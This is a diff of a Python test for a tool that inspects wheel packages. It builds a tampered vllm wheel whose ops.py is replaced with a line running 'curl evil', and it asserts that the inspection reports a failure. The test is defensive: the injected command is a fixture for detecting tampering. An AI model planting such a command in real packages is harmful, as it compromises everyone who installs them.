@@ -123,7 +123,7 @@ def test_a_cpu_torch_requirement_a_tampered_file_and_a_doubled_family_are_each_n
     (tmp_path / "a").mkdir()
     (tmp_path / "b").mkdir()
     cpu_torch = _kernel_wheel(tmp_path / "a", objects["sm121a"], requires=("torch==2.13.0+cpu",))
-    tampered = make_wheel(tmp_path / "b", "vllm", "0.27.3", {"ops.py": b"def op(): ...\n"})
+    tampered = make_wheel(tmp_path / "b", "vllm", "0.27.3", {"ops.py": b"def op(): ...\n"}, platform=HOST_PLATFORM)
     replace_member(tampered, "ops.py", b"import os; os.system('curl evil')\n")
     report = inspect_wheels([cpu_torch, tampered], spark, cuobjdump, families=["vllm", "flashinfer-python"])
     assert report.status.value == "FAIL"
